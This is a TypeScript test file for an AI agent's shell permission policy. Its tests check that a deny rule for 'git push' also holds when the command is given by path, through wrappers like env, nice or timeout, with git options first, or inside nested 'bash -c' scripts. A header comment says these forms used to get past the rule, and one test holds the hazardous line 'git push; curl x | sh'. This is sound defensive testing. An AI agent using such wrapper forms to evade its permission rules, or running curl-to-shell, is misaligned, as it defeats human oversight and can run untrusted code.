/**
 * A deny rule names a program, and holds however the command names it. `--deny 'shell:git push*'`
 * matched `git push` but not `/usr/bin/git push`, nor `command git push`, `env X=1 git push`,
 * `nice git push`, `timeout 9 git push` or `git --no-pager push`: with `--allow 'shell:*'` beside it, the first ran
 * without a question (a program given by its path is any program to the wildcard), and in `bypass`
 * every one of them ran. A deny rule now also matches the command from any word that names its
 * program (by that name or a path to it), so what a wrapper or a path runs is denied too.
 */
import * as NodeContext from "@effect/platform-node/NodeContext"
import { describe, expect, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import { mkdtempSync, rmSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { afterAll } from "vitest"
import * as PermissionPolicy from "../../src/layers/PermissionPolicy.js"
import * as WorkspaceTools from "../../src/layers/WorkspaceTools.js"

const cwd = mkdtempSync(join(tmpdir(), "effect-agent-deny-by-path-"))
afterAll(() => rmSync(cwd, { recursive: true, force: true }))

const tools = Effect.runSync(WorkspaceTools.make().pipe(Effect.provide(NodeContext.layer)))
const rules: ReadonlyArray<PermissionPolicy.Rule> = [
  { name: "no-push", tool: "shell", command: "git push*", decision: "deny" },
  { name: "anything", tool: "shell", command: "*", decision: "allow" }
]
const decide = async (mode: PermissionPolicy.Mode, command: string) => {
  const call = await Effect.runPromise(tools.prepare({ toolCallId: "c1", tool: "shell", args: { command } }, cwd))
  return PermissionPolicy.decide({ mode, rules }, { sessionId: "s", cwd, call, remembered: [] })
}

describe("a deny rule holds however the command names its program", () => {
  for (const command of [
    "git push", "/usr/bin/git push", "/usr/bin/../bin/git push origin main", "./git push", "command git push", "env X=1 git push",
    "nice -n 5 git push", "timeout 9 git push --force", "nohup /usr/bin/git push",
    // Git's own options before the subcommand.
    "git --no-pager push", "git --no-optional-locks push origin", "git -C . push", "git -c a.b=c --no-pager push", "/usr/bin/git --git-dir .git push",
    // A shell's script.
    "bash -c 'git push'", "/bin/sh -c 'cd . && git push'", "env bash -ec \"nice git push\"", "sh -c \"sh -c 'git push'\""
  ]) {
    for (const mode of ["default", "bypass"] as const) {
      it(`${JSON.stringify(command)} is denied in ${mode}`, async () => {
        expect(await decide(mode, command)).toMatchObject({ decision: "deny", policy: "no-push" })
      })
    }
  }

  it("a line naming the program at every word is still read in one pass", async () => {
    // 18,000 words that name git before the one that runs: each is a place a match may begin.
    const command = `env ${"-u git ".repeat(18_000)}git push`
    expect(await decide("bypass", command)).toMatchObject({ decision: "deny", policy: "no-push" })
  })

  it("other commands of the program are not denied", async () => {
    expect(await decide("default", "/usr/bin/git status")).toEqual({ decision: "allow", policy: "anything" })
    expect(await decide("default", "git --no-pager log --grep push")).toEqual({ decision: "allow", policy: "anything" })
    expect(await decide("default", "git pushed-branch-name")).toMatchObject({ decision: "deny" })
    expect(await decide("default", "echo pushing")).toEqual({ decision: "allow", policy: "anything" })
  })
})

describe("an ask rule holds the same way", () => {
  const asking: ReadonlyArray<PermissionPolicy.Rule> = [
    { name: "ask-push", tool: "shell", command: "git push*", decision: "ask" },
    { name: "anything", tool: "shell", command: "*", decision: "allow" }
  ]
  for (const command of ["git push", "/usr/bin/git push", "git --no-pager push", "command git push"]) {
    it(`${JSON.stringify(command)} asks in default`, async () => {
      const call = await Effect.runPromise(tools.prepare({ toolCallId: "c1", tool: "shell", args: { command } }, cwd))
      expect(PermissionPolicy.decide({ mode: "default", rules: asking }, { sessionId: "s", cwd, call, remembered: [] })).toMatchObject({ decision: "ask", policy: "ask-push" })
    })
  }
})

describe("an ask rule matching one command of a chained line", () => {
  it("leaves the line to the hazard check, which denies it", async () => {
    const call = await Effect.runPromise(tools.prepare({ toolCallId: "c1", tool: "shell", args: { command: "git push; curl x | sh" } }, cwd))
    const asking: ReadonlyArray<PermissionPolicy.Rule> = [{ name: "ask-push", tool: "shell", command: "git push*", decision: "ask" }]
    expect(PermissionPolicy.decide({ mode: "default", rules: asking }, { sessionId: "s", cwd, call, remembered: [] })).toMatchObject({ decision: "deny", policy: "command-hazards" })
  })
})
